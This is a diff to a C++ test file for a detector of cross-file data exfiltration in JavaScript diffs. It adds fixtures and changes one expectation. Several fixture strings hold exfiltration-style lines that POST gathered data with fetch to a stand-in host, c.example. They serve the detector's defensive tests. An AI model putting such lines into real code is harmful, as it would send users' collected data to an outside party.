@@ -866,9 +866,15 @@ TEST_CASE("what one file collects and another sends is one chain") {
       "+const gather = require('./gather');\n+fetch('https://c.example', { method: 'POST', body: gather() });\n");
   const std::string stranger =
       make_diff("lib/report.js", "+fetch('https://c.example', { method: 'POST', body: x });\n");
+  const std::string reads = make_diff("lib/report.js", "+const r = await fetch('https://c.example/status');\n");
+  const std::string local = make_diff("lib/report.js", "+fetch('http://localhost:9', { method: 'POST', body: x });\n");
+  const std::string child = make_diff("lib/gather.js", "+spawn(tool, [], { env: { ...process.env, CI: '1' } });\n");
   CHECK(has_rule(judge(collects + sends), "data-exfiltration"));
   CHECK(has_rule(judge(sends + collects), "data-exfiltration"));
-  CHECK(!has_rule(judge(collects + stranger), "data-exfiltration"));
+  CHECK(has_rule(judge(collects + stranger), "data-exfiltration"));
+  CHECK(!has_rule(judge(collects + reads), "data-exfiltration"));
+  CHECK(!has_rule(judge(collects + local), "data-exfiltration"));
+  CHECK(!has_rule(judge(child + stranger), "data-exfiltration"));
   CHECK(!has_rule(judge(collects), "data-exfiltration"));
   CHECK(!has_rule(judge(sends), "data-exfiltration"));
 }
